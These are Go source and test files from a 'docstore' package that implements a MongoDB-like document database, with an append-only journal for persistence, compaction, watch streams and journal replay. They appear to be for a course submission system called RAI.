		_, err := db.Delete(e.Coll, e.Filter)
		return err
	case "drop":
		db.Drop(e.Coll)
		return nil
	default:
		return fmt.Errorf("unknown journal op %q", e.Op)
	}
}

// log writes one entry and flushes it to the OS.
func (p *PersistentDB) log(e *journalEntry) error {
	raw, err := json.Marshal(e)
	if err != nil {
		return err
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.file == nil {
		return fmt.Errorf("docstore: journal closed")
	}
	if _, err := p.w.Write(append(raw, '\n')); err != nil {
		return err
	}
	return p.w.Flush()
}

// Insert journals and applies an insert.
func (p *PersistentDB) Insert(coll string, doc any) (string, error) {
	id, err := p.DB.Insert(coll, doc)
	if err != nil {
		return "", err
	}
	d, _ := normalize(doc)
	if err := p.log(&journalEntry{Op: "insert", Coll: coll, Doc: d, ID: id}); err != nil {
		return id, err
	}
	return id, nil
}

// Update journals and applies an update.
func (p *PersistentDB) Update(coll string, filter, update M) (int, error) {
	n, err := p.DB.Update(coll, filter, update)
	if err != nil {
		return n, err
	}
	if n > 0 {
		if err := p.log(&journalEntry{Op: "update", Coll: coll, Filter: filter, Update: update}); err != nil {
			return n, err
		}
	}
	return n, nil
}

// Upsert journals and applies an upsert.
func (p *PersistentDB) Upsert(coll string, filter, update M) (string, error) {
	id, err := p.DB.Upsert(coll, filter, update)
	if err != nil {
		return id, err
	}
	if err := p.log(&journalEntry{Op: "upsert", Coll: coll, Filter: filter, Update: update, ID: id}); err != nil {
		return id, err
	}
	return id, nil
}

// Delete journals and applies a delete.
func (p *PersistentDB) Delete(coll string, filter M) (int, error) {
	n, err := p.DB.Delete(coll, filter)
	if err != nil {
		return n, err
	}
	if n > 0 {
		if err := p.log(&journalEntry{Op: "delete", Coll: coll, Filter: filter}); err != nil {
			return n, err
		}
	}
	return n, nil
}

// Drop journals and applies a collection drop.
func (p *PersistentDB) Drop(coll string) error {
	p.DB.Drop(coll)
	return p.log(&journalEntry{Op: "drop", Coll: coll})
}

// Close flushes and closes the journal.
func (p *PersistentDB) Close() error {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.file == nil {
		return nil
	}
	if err := p.w.Flush(); err != nil {
		return err
	}
	err := p.file.Close()
	p.file = nil
	return err
}

// Compact rewrites the journal as a sequence of plain inserts of the
// current state (dropping dead updates/deletes), shrinking long-lived
// journals.
func (p *PersistentDB) Compact(path string) error {
	p.mu.Lock()
	defer p.mu.Unlock()
	tmp := path + ".tmp"
	f, err := os.OpenFile(tmp, os.O_CREATE|os.O_TRUNC|os.O_WRONLY, 0o600)
	if err != nil {
		return err
	}
	w := bufio.NewWriter(f)
	for _, coll := range p.DB.Collections() {
		docs, err := p.DB.Find(coll, M{}, FindOpts{})
		if err != nil {
			f.Close()
			os.Remove(tmp)
			return err
		}
		for _, doc := range docs {
			id, _ := doc["_id"].(string)
			raw, err := json.Marshal(&journalEntry{Op: "insert", Coll: coll, Doc: doc, ID: id})
			if err != nil {
				f.Close()
				os.Remove(tmp)
				return err
			}
			if _, err := w.Write(append(raw, '\n')); err != nil {
				f.Close()
				os.Remove(tmp)
				return err
			}
		}
	}
	if err := w.Flush(); err != nil {
		f.Close()
		os.Remove(tmp)
		return err
	}
	if err := f.Close(); err != nil {
		os.Remove(tmp)
		return err
	}
	// Swap journals: close old, rename, reopen.
	if p.file != nil {
		p.w.Flush()
		p.file.Close()
	}
	if err := os.Rename(tmp, path); err != nil {
		return err
	}
	nf, err := os.OpenFile(path, os.O_RDWR|os.O_APPEND, 0o600)
	if err != nil {
		return err
	}
	p.file = nf
	p.w = bufio.NewWriter(nf)
	return nil
}

var _ Store = (*PersistentDB)(nil)
