package docstore

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"sync"

	"rai/internal/blobstore"
)

// Durability: a PersistentDB wraps DB with an append-only journal so the
// raidb daemon survives restarts — the role MongoDB's storage engine
// played in the original deployment. Every mutation is recorded as one
// JSON line; opening a journal replays it into a fresh DB.
//
// The journal is a blob in a blobstore.Backend (bucket/key), written
// through the backend's append capability and rewritten via an atomic
// Create at compaction. Running on the disk backend this inherits its
// crash story: a torn compaction never replaces the journal (temp file
// + rename), and a crash mid-append is reconciled from the file size at
// the next open. The format is deliberately simple and append-only:
// grading and auditing care about never losing submission records
// (paper §IV: the database holds "execution times, run-times, and logs
// ... useful for grading or any other coursework auditing process"),
// not about random-access update performance.

// JournalBucket is the bucket OpenPersistent keeps the journal blob in.
const JournalBucket = "journal"

// journalEntry is one logged mutation.
type journalEntry struct {
	Op     string `json:"op"` // insert | update | upsert | delete | drop
	Coll   string `json:"coll"`
	Doc    M      `json:"doc,omitempty"`
	Filter M      `json:"filter,omitempty"`
	Update M      `json:"update,omitempty"`
	// ID pins the document id chosen at execution time so replay is
	// byte-identical (Insert generates random ids otherwise).
	ID string `json:"id,omitempty"`
}

// PersistentDB is a DB whose mutations are journaled to a blob backend.
type PersistentDB struct {
	*DB
	mu     sync.Mutex
	be     blobstore.Backend
	app    blobstore.Appender
	bucket string
	key    string
	w      io.WriteCloser // open append writer; nil once closed
	bw     *bufio.Writer
	size   int64
	ownBE  bool // Close also closes the backend (OpenPersistent path)
}

// OpenPersistent opens (or creates) a journal-backed database persisted
// under path's directory, replaying any existing journal. A flat
// journal file left at path by a pre-blobstore version is migrated into
// the backend layout on first open. The directory should be dedicated
// to the journal.
func OpenPersistent(path string) (*PersistentDB, error) {
	be, err := blobstore.NewDisk(filepath.Dir(path))
	if err != nil {
		return nil, err
	}
	key := filepath.Base(path)
	if st, err := os.Stat(path); err == nil && st.Mode().IsRegular() {
		if _, err := be.Adopt(storeCtx, JournalBucket, key, path); err != nil {
			be.Close()
			return nil, fmt.Errorf("docstore: migrating flat journal: %w", err)
		}
	}
	p, err := OpenPersistentBackend(be, JournalBucket, key)
	if err != nil {
		be.Close()
		return nil, err
	}
	p.ownBE = true
	return p, nil
}

// OpenPersistentBackend opens a journal-backed database over an
// existing backend (or mount table), replaying the blob at bucket/key
// if present. The backend must support appends; the caller keeps
// ownership of it (Close leaves it open). The journal blob should live
// on a backend without a default TTL — an expiring journal is data
// loss.
func OpenPersistentBackend(be blobstore.Backend, bucket, key string) (*PersistentDB, error) {
	app, ok := be.(blobstore.Appender)
	if !ok || !be.Capabilities().Has(blobstore.CapAppend) {
		return nil, fmt.Errorf("docstore: journal backend: %w: append", blobstore.ErrNoCapability)
	}
	db := New()
	var size int64
	rc, info, err := be.Open(storeCtx, bucket, key)
	switch {
	case err == nil:
		rerr := replay(rc, db)
		rc.Close()
		if rerr != nil {
			return nil, rerr
		}
		size = info.Size
	case errors.Is(err, blobstore.ErrNotFound), errors.Is(err, blobstore.ErrNoBucket):
		// Fresh journal; the first append creates it.
	default:
		return nil, err
	}
	w, err := app.Append(storeCtx, bucket, key)
	if err != nil {
		return nil, err
	}
	return &PersistentDB{
		DB: db, be: be, app: app, bucket: bucket, key: key,
		w: w, bw: bufio.NewWriter(w), size: size,
	}, nil
}

// Backend exposes the journal's backend (for capability negotiation).
func (p *PersistentDB) Backend() blobstore.Backend { return p.be }

// JournalSize reports the journal's current size in bytes.
func (p *PersistentDB) JournalSize() int64 {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.size
}

// replay applies every journal line to db.
func replay(r io.Reader, db *DB) error {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 1<<20), 64<<20)
	line := 0
	for sc.Scan() {
		line++
		raw := sc.Bytes()
		if len(raw) == 0 {
			continue
		}
		var e journalEntry
		if err := json.Unmarshal(raw, &e); err != nil {
			return fmt.Errorf("docstore: journal line %d: %w", line, err)
		}
		if err := apply(db, &e); err != nil {
			return fmt.Errorf("docstore: journal line %d (%s %s): %w", line, e.Op, e.Coll, err)
		}
	}
	return sc.Err()
}

func apply(db *DB, e *journalEntry) error {
	switch e.Op {
	case "insert":
		doc := e.Doc
		if e.ID != "" {
			doc["_id"] = e.ID
		}
		_, err := db.Insert(e.Coll, doc)
		return err
	case "update":
		_, err := db.Update(e.Coll, e.Filter, e.Update)
		return err
	case "upsert":
		// Replay exactly: if the id is recorded and absent, pin it.
		if e.ID != "" {
			if _, err := db.FindOne(e.Coll, M{"_id": e.ID}); err != nil {
				// Will insert: reproduce the original id through the
				// normal upsert path, then fix the id if it differs.
				id, err := db.Upsert(e.Coll, e.Filter, e.Update)
				if err != nil {
					return err
				}
				if id != e.ID {
					if _, err := db.Update(e.Coll, M{"_id": id}, M{"$set": M{"_replayed_from": id}}); err != nil {
						return err
					}
					// Rewrite the id by delete+insert.
					docs, err := db.Find(e.Coll, M{"_id": id}, FindOpts{})
					if err != nil || len(docs) != 1 {
						return fmt.Errorf("docstore: replay id fixup failed")
					}
					doc := docs[0]
					doc["_id"] = e.ID
					delete(doc, "_replayed_from")
					if _, err := db.Delete(e.Coll, M{"_id": id}); err != nil {
						return err
					}
					if _, err := db.Insert(e.Coll, doc); err != nil {
						return err
					}
				}
				return nil
			}
		}
		_, err := db.Upsert(e.Coll, e.Filter, e.Update)
		return err
	case "delete":
		_, err := db.Delete(e.Coll, e.Filter)
		return err
	case "drop":
		db.Drop(e.Coll)
		return nil
	default:
		return fmt.Errorf("unknown journal op %q", e.Op)
	}
}

// log writes one entry and flushes it through to the backend (on disk,
// straight to the O_APPEND file).
func (p *PersistentDB) log(e *journalEntry) error {
	raw, err := json.Marshal(e)
	if err != nil {
		return err
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.w == nil {
		return fmt.Errorf("docstore: journal closed")
	}
	if _, err := p.bw.Write(append(raw, '\n')); err != nil {
		return err
	}
	if err := p.bw.Flush(); err != nil {
		return err
	}
	p.size += int64(len(raw)) + 1
	return nil
}

// Insert journals and applies an insert.
func (p *PersistentDB) Insert(coll string, doc any) (string, error) {
	id, err := p.DB.Insert(coll, doc)
	if err != nil {
		return "", err
	}
	d, _ := normalize(doc)
	if err := p.log(&journalEntry{Op: "insert", Coll: coll, Doc: d, ID: id}); err != nil {
		return id, err
	}
	return id, nil
}

// Update journals and applies an update.
func (p *PersistentDB) Update(coll string, filter, update M) (int, error) {
	n, err := p.DB.Update(coll, filter, update)
	if err != nil {
		return n, err
	}
	if n > 0 {
		if err := p.log(&journalEntry{Op: "update", Coll: coll, Filter: filter, Update: update}); err != nil {
			return n, err
		}
	}
	return n, nil
}

// Upsert journals and applies an upsert.
func (p *PersistentDB) Upsert(coll string, filter, update M) (string, error) {
	id, err := p.DB.Upsert(coll, filter, update)
	if err != nil {
		return id, err
	}
	if err := p.log(&journalEntry{Op: "upsert", Coll: coll, Filter: filter, Update: update, ID: id}); err != nil {
		return id, err
	}
	return id, nil
}

// Delete journals and applies a delete.
func (p *PersistentDB) Delete(coll string, filter M) (int, error) {
	n, err := p.DB.Delete(coll, filter)
	if err != nil {
		return n, err
	}
	if n > 0 {
		if err := p.log(&journalEntry{Op: "delete", Coll: coll, Filter: filter}); err != nil {
			return n, err
		}
	}
	return n, nil
}

// Drop journals and applies a collection drop.
func (p *PersistentDB) Drop(coll string) error {
	p.DB.Drop(coll)
	return p.log(&journalEntry{Op: "drop", Coll: coll})
}

// Close flushes and closes the journal (committing its size to the
// backend index), and releases the backend when this PersistentDB
// opened it.
func (p *PersistentDB) Close() error {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.w != nil {
		if err := p.bw.Flush(); err != nil {
			return err
		}
		if err := p.w.Close(); err != nil {
			return err
		}
		p.w = nil
	}
	if p.ownBE && p.be != nil {
		err := p.be.Close()
		p.be = nil
		return err
	}
	return nil
}

// Compact rewrites the journal as a sequence of plain inserts of the
// current state (dropping dead updates/deletes), shrinking long-lived
// journals. The rewrite goes through the backend's Create, so on disk
// it is an atomic replacement: a crash mid-compaction leaves the old
// journal untouched.
func (p *PersistentDB) Compact() error {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.w == nil {
		return fmt.Errorf("docstore: journal closed")
	}
	// Stop appending before the rewrite: the Create commit replaces the
	// blob underneath an open O_APPEND descriptor otherwise.
	if err := p.bw.Flush(); err != nil {
		return err
	}
	if err := p.w.Close(); err != nil {
		return err
	}
	p.w = nil
	w, err := p.be.Create(storeCtx, p.bucket, p.key, blobstore.PutOptions{})
	if err != nil {
		return err
	}
	bw := bufio.NewWriter(w)
	var n int64
	for _, coll := range p.DB.Collections() {
		docs, err := p.DB.Find(coll, M{}, FindOpts{})
		if err != nil {
			w.Abort()
			return err
		}
		for _, doc := range docs {
			id, _ := doc["_id"].(string)
			raw, err := json.Marshal(&journalEntry{Op: "insert", Coll: coll, Doc: doc, ID: id})
			if err != nil {
				w.Abort()
				return err
			}
			raw = append(raw, '\n')
			if _, err := bw.Write(raw); err != nil {
				w.Abort()
				return err
			}
			n += int64(len(raw))
		}
	}
	if err := bw.Flush(); err != nil {
		w.Abort()
		return err
	}
	if err := w.Close(); err != nil {
		return err
	}
	// Resume appending onto the compacted blob.
	app, err := p.app.Append(storeCtx, p.bucket, p.key)
	if err != nil {
		return err
	}
	p.w = app
	p.bw = bufio.NewWriter(app)
	p.size = n
	return nil
}

var _ Store = (*PersistentDB)(nil)
