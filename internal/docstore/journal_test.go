package docstore

import (
	"os"
	"path/filepath"
	"testing"
)

func openTemp(t *testing.T) (*PersistentDB, string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "rai.journal")
	db, err := OpenPersistent(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	return db, path
}

func reopen(t *testing.T, db *PersistentDB, path string) *PersistentDB {
	t.Helper()
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	again, err := OpenPersistent(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { again.Close() })
	return again
}

func TestPersistInsertSurvivesRestart(t *testing.T) {
	db, path := openTemp(t)
	id, err := db.Insert("jobs", M{"user": "team1", "status": "succeeded", "elapsed_s": 4.2})
	if err != nil {
		t.Fatal(err)
	}
	again := reopen(t, db, path)
	doc, err := again.FindOne("jobs", M{"_id": id})
	if err != nil {
		t.Fatal(err)
	}
	if doc["user"] != "team1" || doc["elapsed_s"] != 4.2 {
		t.Fatalf("replayed doc = %v", doc)
	}
}

func TestPersistUpdateDeleteSurvive(t *testing.T) {
	db, path := openTemp(t)
	db.Insert("jobs", M{"_id": "a", "status": "running"})
	db.Insert("jobs", M{"_id": "b", "status": "running"})
	if _, err := db.Update("jobs", M{"_id": "a"}, M{"$set": M{"status": "succeeded"}}); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Delete("jobs", M{"_id": "b"}); err != nil {
		t.Fatal(err)
	}
	again := reopen(t, db, path)
	doc, err := again.FindOne("jobs", M{"_id": "a"})
	if err != nil || doc["status"] != "succeeded" {
		t.Fatalf("a = %v, %v", doc, err)
	}
	if _, err := again.FindOne("jobs", M{"_id": "b"}); err == nil {
		t.Fatal("deleted doc resurrected by replay")
	}
}

func TestPersistUpsertOverwriteSurvives(t *testing.T) {
	// The ranking overwrite pattern (§V) through restarts.
	db, path := openTemp(t)
	db.Upsert("rankings", M{"team": "alpha"}, M{"$set": M{"runtime_s": 1.5}})
	db.Upsert("rankings", M{"team": "alpha"}, M{"$set": M{"runtime_s": 0.45}})
	again := reopen(t, db, path)
	if n, _ := again.Count("rankings", M{}); n != 1 {
		t.Fatalf("rankings rows = %d, want 1", n)
	}
	doc, _ := again.FindOne("rankings", M{"team": "alpha"})
	if doc["runtime_s"] != 0.45 {
		t.Fatalf("doc = %v", doc)
	}
	// And the id is stable across replay (ranking rows referenced by id).
	id1, _ := doc["_id"].(string)
	third := reopen(t, again, path)
	doc2, _ := third.FindOne("rankings", M{"team": "alpha"})
	if doc2["_id"] != id1 {
		t.Fatalf("id changed across replays: %v vs %v", doc2["_id"], id1)
	}
}

func TestPersistDropSurvives(t *testing.T) {
	db, path := openTemp(t)
	db.Insert("tmp", M{"x": 1})
	if err := db.Drop("tmp"); err != nil {
		t.Fatal(err)
	}
	again := reopen(t, db, path)
	if n, _ := again.Count("tmp", M{}); n != 0 {
		t.Fatalf("dropped collection has %d docs after replay", n)
	}
}

func TestPersistCompactShrinksJournal(t *testing.T) {
	db, path := openTemp(t)
	for i := 0; i < 50; i++ {
		db.Upsert("rankings", M{"team": "alpha"}, M{"$set": M{"runtime_s": float64(50 - i)}})
	}
	before := db.JournalSize()
	if err := db.Compact(); err != nil {
		t.Fatal(err)
	}
	after := db.JournalSize()
	if after >= before {
		t.Errorf("compact did not shrink: %d -> %d bytes", before, after)
	}
	// State intact, and the journal still works after compaction.
	doc, err := db.FindOne("rankings", M{"team": "alpha"})
	if err != nil || doc["runtime_s"] != 1.0 {
		t.Fatalf("post-compact doc = %v, %v", doc, err)
	}
	db.Insert("jobs", M{"_id": "post-compact"})
	again := reopen(t, db, path)
	if _, err := again.FindOne("jobs", M{"_id": "post-compact"}); err != nil {
		t.Fatalf("post-compact write lost: %v", err)
	}
	if doc, _ := again.FindOne("rankings", M{"team": "alpha"}); doc["runtime_s"] != 1.0 {
		t.Fatalf("compacted state lost: %v", doc)
	}
}

func TestOpenPersistentRejectsCorruptJournal(t *testing.T) {
	path := filepath.Join(t.TempDir(), "bad.journal")
	os.WriteFile(path, []byte("{\"op\":\"insert\",\"coll\":\"c\",\"doc\":{}}\nNOT JSON\n"), 0o600)
	if _, err := OpenPersistent(path); err == nil {
		t.Fatal("corrupt journal accepted")
	}
}

func TestPersistentDBReadsDelegate(t *testing.T) {
	db, _ := openTemp(t)
	db.Insert("c", M{"v": 1.0})
	db.Insert("c", M{"v": 2.0})
	docs, err := db.Find("c", M{"v": M{"$gt": 1.5}}, FindOpts{})
	if err != nil || len(docs) != 1 {
		t.Fatalf("find = %v, %v", docs, err)
	}
	if n, _ := db.Count("c", M{}); n != 2 {
		t.Fatalf("count = %d", n)
	}
}
