package docstore

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"rai/internal/blobstore"
	"rai/internal/netx"
)

var testCtx = context.Background()

func collect(t *testing.T, ch <-chan WatchEvent, n int) []WatchEvent {
	t.Helper()
	out := make([]WatchEvent, 0, n)
	timeout := time.After(5 * time.Second)
	for len(out) < n {
		select {
		case ev, ok := <-ch:
			if !ok {
				t.Fatalf("stream closed after %d/%d events", len(out), n)
			}
			out = append(out, ev)
		case <-timeout:
			t.Fatalf("timed out after %d/%d events", len(out), n)
		}
	}
	return out
}

func TestWatchDeliversMutationsInOrder(t *testing.T) {
	db := New()
	ctx, cancel := context.WithCancel(testCtx)
	defer cancel()
	sub := db.Watch(ctx, "jobs")

	id, err := db.Insert("jobs", M{"status": "queued"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.Update("jobs", M{"_id": id}, M{"$set": M{"status": "running"}}); err != nil {
		t.Fatal(err)
	}
	// Another collection: invisible to this subscription.
	if _, err := db.Insert("rankings", M{"team": "alpha"}); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Delete("jobs", M{"_id": id}); err != nil {
		t.Fatal(err)
	}

	evs := collect(t, sub.Events(), 3)
	wantOps := []string{"insert", "update", "delete"}
	for i, ev := range evs {
		if ev.Op != wantOps[i] || ev.Coll != "jobs" || ev.ID != id {
			t.Errorf("event %d = %+v, want op=%s coll=jobs id=%s", i, ev, wantOps[i], id)
		}
		if i > 0 && evs[i].Seq <= evs[i-1].Seq {
			t.Errorf("seq not increasing: %d then %d", evs[i-1].Seq, evs[i].Seq)
		}
	}
	if sub.Dropped() != 0 {
		t.Errorf("dropped = %d, want 0", sub.Dropped())
	}

	cancel()
	// Channel drains then closes after cancel.
	for {
		if _, ok := <-sub.Events(); !ok {
			break
		}
	}
}

func TestWatchAllCollectionsAndDrop(t *testing.T) {
	db := New()
	sub := db.Watch(testCtx, "")
	defer sub.Close()

	db.Insert("a", M{"x": 1})
	db.Insert("b", M{"x": 2})
	db.Drop("a")
	db.Drop("a") // dropping a missing collection emits nothing

	evs := collect(t, sub.Events(), 3)
	if evs[0].Coll != "a" || evs[1].Coll != "b" {
		t.Errorf("events = %+v", evs)
	}
	if evs[2].Op != "drop" || evs[2].Coll != "a" || evs[2].ID != "" {
		t.Errorf("drop event = %+v", evs[2])
	}
}

func TestHTTPWatchStream(t *testing.T) {
	db := New()
	srv := httptest.NewServer(Handler(db, nil))
	defer srv.Close()
	c := NewClient(srv.URL)

	caps, err := c.CapsContext(testCtx)
	if err != nil {
		t.Fatal(err)
	}
	if !caps.Watch {
		t.Fatalf("caps = %+v, want watch", caps)
	}

	ctx, cancel := context.WithCancel(testCtx)
	defer cancel()
	ch, err := c.WatchContext(ctx, "jobs")
	if err != nil {
		t.Fatal(err)
	}

	// WatchContext returning does not guarantee the server has
	// registered the subscription yet, so keep inserting probes until
	// one is observed.
	deadline := time.After(5 * time.Second)
	var first WatchEvent
waiting:
	for {
		if _, err := db.Insert("jobs", M{"probe": true}); err != nil {
			t.Fatal(err)
		}
		select {
		case ev, ok := <-ch:
			if !ok {
				t.Fatal("watch stream closed early")
			}
			first = ev
			break waiting
		case <-deadline:
			t.Fatal("no watch event arrived")
		case <-time.After(10 * time.Millisecond):
		}
	}
	if first.Op != "insert" || first.Coll != "jobs" {
		t.Errorf("first event = %+v", first)
	}

	cancel()
	deadline = time.After(5 * time.Second)
	for {
		select {
		case _, ok := <-ch:
			if !ok {
				return // closed after cancel, as promised
			}
		case <-deadline:
			t.Fatal("stream did not close after cancel")
		}
	}
}

func TestHTTPCapsFallbackOnOldServer(t *testing.T) {
	old := httptest.NewServer(http.NotFoundHandler())
	defer old.Close()
	c := NewClient(old.URL)
	caps, err := c.CapsContext(testCtx)
	if err != nil {
		t.Fatalf("caps against old server: %v", err)
	}
	if caps != (Caps{}) {
		t.Errorf("caps = %+v, want zero", caps)
	}
	// And the watch endpoint errors cleanly rather than hanging.
	_, err = c.WatchContext(testCtx, "jobs")
	var se *netx.StatusError
	if !errors.As(err, &se) || se.Code != http.StatusNotFound {
		t.Errorf("watch error = %v, want 404 StatusError", err)
	}
}

// TestJournalOnSharedBackend runs the journal over a caller-owned
// memory backend and a mount table, the configuration raidb uses when
// one process hosts both stores.
func TestJournalOnSharedBackend(t *testing.T) {
	be := blobstore.NewMemory()
	defer be.Close()
	table := blobstore.NewTable(be)

	p, err := OpenPersistentBackend(table, "journal", "rai.journal")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := p.Insert("jobs", M{"_id": "j1", "status": "queued"}); err != nil {
		t.Fatal(err)
	}
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	// The backend outlives the journal handle; reopening replays.
	again, err := OpenPersistentBackend(table, "journal", "rai.journal")
	if err != nil {
		t.Fatal(err)
	}
	defer again.Close()
	doc, err := again.FindOne("jobs", M{"_id": "j1"})
	if err != nil || doc["status"] != "queued" {
		t.Fatalf("replayed doc = %v, %v", doc, err)
	}
	if again.JournalSize() == 0 {
		t.Error("journal size not recovered from backend")
	}
	if again.Backend() != table {
		t.Error("Backend() identity lost")
	}
}
