// Package docstore implements the MongoDB-like document database RAI
// uses for submission metadata, execution times, logs pointers, and
// competition rankings (paper §IV "MongoDB Database").
//
// Documents are schemaless JSON objects stored in named collections.
// Every document carries a string "_id" (auto-generated when absent).
// Queries use a Mongo-flavoured filter language (equality plus $gt, $gte,
// $lt, $lte, $ne, $in, $exists on dotted paths), with sort/limit/skip and
// field updates via $set, $inc, and $push.
//
// Values are normalized through JSON encoding on insertion, so the
// embedded engine and the HTTP service observe identical typing (numbers
// are float64, as in JSON).
package docstore

import (
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"sort"
	"strings"
	"sync"
)

// M is a convenience alias for building documents and filters.
type M = map[string]any

// Errors reported by the store.
var (
	ErrNotFound    = errors.New("docstore: document not found")
	ErrDuplicateID = errors.New("docstore: duplicate _id")
	ErrBadFilter   = errors.New("docstore: bad filter")
	ErrBadUpdate   = errors.New("docstore: bad update")
	ErrBadName     = errors.New("docstore: invalid collection name")
	ErrBadDocument = errors.New("docstore: document must be a JSON object")
	ErrTxnConflict = errors.New("docstore: concurrent modification")
)

// DB is an in-memory multi-collection document database.
type DB struct {
	mu          sync.RWMutex
	collections map[string]*collection
	idSeq       uint64

	// Watch plumbing (watch.go). watchMu nests inside mu: mutations emit
	// while holding mu, so events arrive in operation order.
	watchMu   sync.Mutex
	watchSeq  uint64
	watchSubs map[*WatchSub]struct{}
}

type collection struct {
	docs  map[string]M // _id -> document
	order []string     // insertion order of _ids (deterministic scans)
}

// New creates an empty database.
func New() *DB {
	return &DB{collections: map[string]*collection{}}
}

func validCollection(name string) bool {
	if name == "" || len(name) > 120 || strings.HasPrefix(name, "$") {
		return false
	}
	for _, r := range name {
		switch {
		case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z', r >= '0' && r <= '9', r == '_', r == '.', r == '-':
		default:
			return false
		}
	}
	return true
}

func (db *DB) coll(name string) (*collection, error) {
	if !validCollection(name) {
		return nil, fmt.Errorf("%w: %q", ErrBadName, name)
	}
	c, ok := db.collections[name]
	if !ok {
		c = &collection{docs: map[string]M{}}
		db.collections[name] = c
	}
	return c, nil
}

// normalize round-trips v through JSON so stored values use JSON typing.
func normalize(v any) (M, error) {
	raw, err := json.Marshal(v)
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrBadDocument, err)
	}
	var doc M
	if err := json.Unmarshal(raw, &doc); err != nil {
		return nil, fmt.Errorf("%w: %v", ErrBadDocument, err)
	}
	if doc == nil {
		return nil, ErrBadDocument
	}
	return doc, nil
}

// newID returns a fresh random document id (12 random bytes, hex).
func (db *DB) newID() string {
	var b [12]byte
	if _, err := rand.Read(b[:]); err != nil {
		// Fall back to a counter; rand failure is effectively impossible.
		db.idSeq++
		return fmt.Sprintf("seq%020d", db.idSeq)
	}
	return hex.EncodeToString(b[:])
}

// Insert stores doc (any JSON-marshalable object) in the collection and
// returns its _id.
func (db *DB) Insert(collName string, doc any) (string, error) {
	d, err := normalize(doc)
	if err != nil {
		return "", err
	}
	db.mu.Lock()
	defer db.mu.Unlock()
	c, err := db.coll(collName)
	if err != nil {
		return "", err
	}
	id, ok := d["_id"].(string)
	if !ok || id == "" {
		id = db.newID()
		d["_id"] = id
	}
	if _, exists := c.docs[id]; exists {
		return "", fmt.Errorf("%w: %q", ErrDuplicateID, id)
	}
	c.docs[id] = d
	c.order = append(c.order, id)
	db.emit("insert", collName, id)
	return id, nil
}

// FindOpts shapes a query's result set.
type FindOpts struct {
	// Sort lists dotted field paths; a leading '-' sorts descending.
	Sort  []string
	Skip  int
	Limit int // 0 = unlimited
}

// Find returns documents matching filter, in insertion order unless
// sorted. Returned documents are deep copies.
func (db *DB) Find(collName string, filter M, opts FindOpts) ([]M, error) {
	db.mu.RLock()
	defer db.mu.RUnlock()
	c, err := db.coll(collName)
	if err != nil {
		return nil, err
	}
	var out []M
	for _, id := range c.order {
		doc, ok := c.docs[id]
		if !ok {
			continue
		}
		match, err := matches(doc, filter)
		if err != nil {
			return nil, err
		}
		if match {
			out = append(out, deepCopy(doc))
		}
	}
	if len(opts.Sort) > 0 {
		sortDocs(out, opts.Sort)
	}
	if opts.Skip > 0 {
		if opts.Skip >= len(out) {
			out = nil
		} else {
			out = out[opts.Skip:]
		}
	}
	if opts.Limit > 0 && len(out) > opts.Limit {
		out = out[:opts.Limit]
	}
	return out, nil
}

// FindOne returns the first match or ErrNotFound.
func (db *DB) FindOne(collName string, filter M) (M, error) {
	docs, err := db.Find(collName, filter, FindOpts{Limit: 1})
	if err != nil {
		return nil, err
	}
	if len(docs) == 0 {
		return nil, ErrNotFound
	}
	return docs[0], nil
}

// Count returns the number of matching documents.
func (db *DB) Count(collName string, filter M) (int, error) {
	db.mu.RLock()
	defer db.mu.RUnlock()
	c, err := db.coll(collName)
	if err != nil {
		return 0, err
	}
	n := 0
	for _, id := range c.order {
		doc, ok := c.docs[id]
		if !ok {
			continue
		}
		match, err := matches(doc, filter)
		if err != nil {
			return 0, err
		}
		if match {
			n++
		}
	}
	return n, nil
}

// Update applies a Mongo-style update ($set, $inc, $push) to all
// documents matching filter and reports how many changed.
func (db *DB) Update(collName string, filter M, update M) (int, error) {
	db.mu.Lock()
	defer db.mu.Unlock()
	c, err := db.coll(collName)
	if err != nil {
		return 0, err
	}
	nupd, err := normalize(update)
	if err != nil {
		return 0, fmt.Errorf("%w: %v", ErrBadUpdate, err)
	}
	n := 0
	for _, id := range c.order {
		doc, ok := c.docs[id]
		if !ok {
			continue
		}
		match, err := matches(doc, filter)
		if err != nil {
			return n, err
		}
		if !match {
			continue
		}
		if err := applyUpdate(doc, nupd); err != nil {
			return n, err
		}
		n++
		db.emit("update", collName, id)
	}
	return n, nil
}

// Upsert updates the first match, or inserts update's $set fields merged
// with the filter's equality fields when nothing matches. It returns the
// document id. This is the write the ranking database uses ("overwrites
// existing timing records", paper §V).
func (db *DB) Upsert(collName string, filter M, update M) (string, error) {
	n, err := db.Update(collName, filter, update)
	if err != nil {
		return "", err
	}
	if n > 0 {
		doc, err := db.FindOne(collName, filter)
		if err != nil {
			return "", err
		}
		id, _ := doc["_id"].(string)
		return id, nil
	}
	// Build the new document: filter equality fields + $set fields.
	seed := M{}
	for k, v := range filter {
		if !strings.HasPrefix(k, "$") && !strings.Contains(k, ".") {
			if _, isOp := v.(map[string]any); !isOp {
				seed[k] = v
			}
		}
	}
	if set, ok := update["$set"].(map[string]any); ok {
		for k, v := range set {
			seed[k] = v
		}
	} else if set, ok := update["$set"].(M); ok {
		for k, v := range set {
			seed[k] = v
		}
	}
	if inc, ok := update["$inc"].(map[string]any); ok {
		for k, v := range inc {
			seed[k] = v
		}
	}
	return db.Insert(collName, seed)
}

// Delete removes matching documents and reports how many.
